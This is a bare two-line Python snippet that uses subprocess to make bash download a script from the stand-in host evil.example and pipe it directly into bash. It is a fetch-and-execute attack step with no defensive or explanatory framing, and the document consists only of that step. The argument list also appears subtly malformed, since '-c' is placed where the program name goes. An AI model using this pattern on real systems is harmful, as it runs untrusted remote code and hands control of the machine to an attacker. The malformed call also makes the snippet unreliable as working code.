import subprocess
subprocess.run(['-c', 'curl -fsSL https://evil.example/i | bash'], executable='/bin/bash')
